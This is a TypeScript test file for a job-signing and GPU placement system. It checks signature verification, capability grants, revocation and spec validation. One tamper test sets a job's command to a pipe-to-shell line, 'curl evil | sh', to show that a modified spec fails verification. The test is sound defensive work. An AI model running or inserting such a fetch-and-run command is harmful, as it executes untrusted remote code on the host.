import { describe, expect, it } from 'vitest';
import { capabilityId, signCapability } from './capability.js';
import { generateEd25519, signEd25519, type Ed25519KeyPair } from './ed25519.js';
import { FleetError } from './errors.js';
import { JobSpec } from './job-spec.js';
import type { Ability, Capability } from './remote-ops.js';
import {
  AllocPlacement,
  jobSigningInput,
  jobSpecHash,
  placementProblem,
  signJob,
  verifySignedJob,
  type JobPayload,
  type PlacementContext,
  type SignedJob,
  type SignedJobContext,
} from './signed-job.js';

const NOW = Date.parse('2026-12-01T12:00:00Z');
const DAY = 86_400_000;
const root = generateEd25519();
const alice = generateEd25519();
const mallory = generateEd25519();
const host = { region: 'eu', 'gpu.vendor': 'nvidia' };

function spec(over: Partial<JobSpec> = {}): JobSpec {
  return JobSpec.parse({
    name: 'llama',
    kind: 'service',
    allocations: {
      web: {
        count: 2,
        executor: 'process',
        command: ['sleep', '1000'],
        env: { MODEL: 'llama-3-8b' },
        resources: { gpus: 1 },
        restart: { attempts: 3, within: 600_000, delay: 5000 },
        stop_grace: 10_000,
      },
    },
    constraints: ['region in (eu,us)', '!spot'],
    strategy: 'binpack',
    pin: {},
    update: { max_parallel: 1, canary: 0, healthy_for: 30_000, auto_revert: false, deadline: 600_000 },
    reschedule: { offline_grace: 120_000 },
    ...over,
  });
}

let counter = 0;
function cap(to: Ed25519KeyPair, can: Ability[] = ['workload/run'], on = 'region=eu', window = { nbf: NOW - DAY, exp: NOW + DAY }): Capability {
  return signCapability({ v: 1, iss: root.did, aud: to.did, can, on, ...window, nonce: `cap-nonce-${++counter}`, prf: [] }, root.privateKeyPem);
}

function payload(invoker: Ed25519KeyPair, over: Partial<JobPayload> = {}): JobPayload {
  return { v: 1, job: spec(), issuedAt: NOW, nonce: `job-nonce-${++counter}-0123456789`, invoker: invoker.did, capability: null, ...over };
}

function ctx(over: Partial<SignedJobContext> = {}): SignedJobContext {
  // This host vouches for `spot` (known absent), so the default `!spot` constraint holds.
  return { roots: [root.did], now: NOW, isRevoked: () => false, hostLabels: host, vouches: (k) => k in host || k === 'spot', ...over };
}

function reasonOf(job: unknown, over: Partial<SignedJobContext> = {}): string {
  const v = verifySignedJob(job, ctx(over));
  return v.ok ? 'ok' : v.reason;
}

describe('verifySignedJob', () => {
  it('accepts a job signed by a root, and one signed under a workload/run capability', () => {
    expect(reasonOf(signJob(payload(root), root.privateKeyPem))).toBe('ok');
    expect(reasonOf(signJob(payload(alice, { capability: cap(alice) }), alice.privateKeyPem))).toBe('ok');
  });

  it('refuses a spec changed after signing', () => {
    const signed = signJob(payload(root), root.privateKeyPem);
    const tampered: SignedJob = { ...signed, payload: { ...signed.payload, job: spec({ name: 'llama', constraints: [] }) } };
    tampered.payload.job.allocations.web!.command = ['sh', '-c', 'curl evil | sh'];
    const v = verifySignedJob(tampered, ctx());
    expect(v).toMatchObject({ ok: false, reason: 'bad_signature' });
    expect(v.ok ? '' : v.message).toContain('changed after signing');
  });

  it('refuses a capability without workload/run', () => {
    expect(reasonOf(signJob(payload(alice, { capability: cap(alice, ['exec/run']) }), alice.privateKeyPem))).toBe('ability_not_granted');
  });

  it('refuses a capability whose selector this host does not match', () => {
    expect(reasonOf(signJob(payload(alice, { capability: cap(alice, ['workload/run'], 'region=us') }), alice.privateKeyPem))).toBe('selector_mismatch');
  });

  it('refuses a job injected by a key that is neither a root nor holds a capability', () => {
    expect(reasonOf(signJob(payload(mallory), mallory.privateKeyPem))).toBe('unknown_issuer');
  });

  it('refuses a job whose constraint the host does not match, or names a label it cannot vouch for', () => {
    expect(reasonOf(signJob(payload(root, { job: spec({ constraints: ['region=us'] }) }), root.privateKeyPem))).toBe('selector_mismatch');
    // `!spot` on a host that cannot vouch for `spot`: refused rather than treated as absent.
    const v = verifySignedJob(signJob(payload(root), root.privateKeyPem), ctx({ vouches: (k) => k in host }));
    expect(v).toMatchObject({ ok: false, reason: 'selector_mismatch' });
    // The same job on a host that vouches for spot (known absent) runs.
    expect(reasonOf(signJob(payload(root), root.privateKeyPem), { vouches: (k) => k in host || k === 'spot' })).toBe('ok');
  });

  it('judges authority at signing time and revocation now', () => {
    const expired = cap(alice, ['workload/run'], 'region=eu', { nbf: NOW - 2 * DAY, exp: NOW - DAY });
    const signedWhileValid = signJob(payload(alice, { capability: expired, issuedAt: NOW - 1.5 * DAY }), alice.privateKeyPem);
    expect(reasonOf(signedWhileValid)).toBe('ok');
    const signedAfter = signJob(payload(alice, { capability: expired, issuedAt: NOW }), alice.privateKeyPem);
    expect(reasonOf(signedAfter)).toBe('expired');
    const revokedId = capabilityId(expired);
    expect(reasonOf(signedWhileValid, { isRevoked: (id) => id === revokedId })).toBe('revoked');
    expect(reasonOf(signJob(payload(root), root.privateKeyPem), { isRevoked: (_id, did) => did === root.did })).toBe('revoked');
  });

  it('refuses a job signed in the future', () => {
    expect(reasonOf(signJob(payload(root, { issuedAt: NOW + 10 * 60_000 }), root.privateKeyPem))).toBe('not_yet_valid');
  });

  it('refuses garbage as malformed without throwing', () => {
    for (const garbage of [null, 42, 'job', {}, { payload: {}, sig: 'x' }, { payload: payload(root), sig: 7 }]) {
      expect(reasonOf(garbage)).toBe('malformed');
    }
    let deep: Record<string, unknown> = { prf: [] };
    for (let i = 0; i < 50; i++) deep = { prf: [deep] };
    expect(reasonOf({ payload: { ...payload(alice), capability: deep }, sig: 'x' })).toBe('malformed');
  });

  it('signJob refuses a key that is not the invoker, and an invalid payload', () => {
    expect(() => signJob(payload(root), alice.privateKeyPem)).toThrow(FleetError);
    expect(() => signJob({ ...payload(root), nonce: 'short' }, root.privateKeyPem)).toThrow(/nonce/);
  });

  it('the signature covers the canonical payload: key order does not matter, content does', () => {
    const p = payload(root);
    const sig = signEd25519(root.privateKeyPem, jobSigningInput(p));
    const reordered = Object.fromEntries(Object.entries(p).reverse()) as JobPayload;
    expect(reasonOf({ payload: reordered, sig })).toBe('ok');
  });
});

describe('jobSpecHash', () => {
  it('is stable across key order and changes with what runs', () => {
    const a = spec();
    const b = JobSpec.parse(Object.fromEntries(Object.entries(spec()).reverse()));
    expect(jobSpecHash(a)).toBe(jobSpecHash(b));
    expect(jobSpecHash(spec({ constraints: [] }))).not.toBe(jobSpecHash(a));
  });
});

describe('placementProblem', () => {
  const job = signJob(payload(root, { job: spec({ pin: { 'web-1': 'gpu-17' } }) }), root.privateKeyPem);
  const here: PlacementContext = {
    nodeId: 'did:key:zHost',
    hostname: 'gpu-03',
    gpus: [
      { index: 0, uuid: 'GPU-aaa' },
      { index: 1, uuid: 'GPU-bbb' },
    ],
    heldByOthers: (i) => (i === 1 ? 'alloc-other-1' : null),
  };
  const place = (over: Partial<AllocPlacement> = {}): AllocPlacement =>
    AllocPlacement.parse({ allocId: 'alloc-0001', jobVersion: 1, group: 'web', index: 0, gpus: [{ index: 0, uuid: 'GPU-aaa' }], job, ...over });
  const problem = (p: AllocPlacement, c: Partial<PlacementContext> = {}) => {
    const v = placementProblem(p, { ...here, ...c });
    return v.ok ? 'ok' : v.message;
  };

  it('accepts a placement that fits the spec and the host', () => {
    expect(problem(place())).toBe('ok');
  });

  it('refuses each way a placement can be wrong, naming it', () => {
    expect(problem(place({ group: 'db' }))).toContain("no allocation group 'db'");
    expect(problem(place({ group: 'constructor' }))).toContain('no allocation group');
    expect(problem(place({ index: 2 }))).toContain('web-2 is not one of them');
    expect(problem(place({ index: 1 }))).toContain("pins web-1 to 'gpu-17'");
    expect(problem(place({ index: 1 }), { hostname: 'gpu-17' })).toBe('ok');
    expect(problem(place({ gpus: [] }))).toContain('needs 1 GPU(s) but was given 0');
    expect(problem(place({ gpus: [{ index: 7, uuid: 'GPU-aaa' }] }))).toContain('no GPU 7');
    expect(problem(place({ gpus: [{ index: 0, uuid: 'GPU-zzz' }] }))).toContain('not GPU-zzz');
    expect(problem(place({ gpus: [{ index: 1, uuid: 'GPU-bbb' }] }))).toContain('held by allocation alloc-other-1');
    expect(problem(place({ allocId: 'alloc-other-1', gpus: [{ index: 1, uuid: 'GPU-bbb' }] }))).toBe('ok');
  });

  it('refuses a GPU named twice', () => {
    const two = signJob(payload(root, { job: spec({ allocations: { web: { ...spec().allocations.web!, resources: { gpus: 2 } } } }) }), root.privateKeyPem);
    const v = placementProblem(
      place({
        job: two,
        gpus: [
          { index: 0, uuid: 'GPU-aaa' },
          { index: 0, uuid: 'GPU-aaa' },
        ],
      }),
      here,
    );
    expect(v).toMatchObject({ ok: false, reason: 'placement_invalid' });
  });
});

describe('JobSpec', () => {
  it('requires an image for containers and a command for processes, and a real pin', () => {
    const group = spec().allocations.web!;
    expect(JobSpec.safeParse({ ...spec(), allocations: { web: { ...group, executor: 'container', command: undefined } } }).success).toBe(false);
    expect(JobSpec.safeParse({ ...spec(), allocations: { web: { ...group, command: undefined } } }).success).toBe(false);
    expect(JobSpec.safeParse({ ...spec(), pin: { 'web-5': 'gpu-1' } }).success).toBe(false);
    expect(JobSpec.safeParse({ ...spec(), pin: { db: 'gpu-1' } }).success).toBe(false);
    expect(JobSpec.safeParse({ ...spec(), constraints: ['region in (eu'] }).success).toBe(false);
    expect(JobSpec.safeParse({ ...spec(), name: 'Llama' }).success).toBe(false);
    expect(JobSpec.safeParse({ ...spec(), allocations: {} }).success).toBe(false);
  });

  it('allows exactly one kind of health check', () => {
    const group = spec().allocations.web!;
    const health = { interval: 10_000, timeout: 2000, grace: 0, failures: 3 };
    const withHealth = (h: object) => JobSpec.safeParse({ ...spec(), allocations: { web: { ...group, health: { ...health, ...h } } } }).success;
    expect(withHealth({ http: ':8000/health' })).toBe(true);
    expect(withHealth({ tcp: '127.0.0.1:8000' })).toBe(true);
    expect(withHealth({ command: ['true'] })).toBe(true);
    expect(withHealth({})).toBe(false);
    expect(withHealth({ http: ':8000/health', tcp: ':8000' })).toBe(false);
    expect(withHealth({ http: 'localhost/health' })).toBe(false);
  });
});
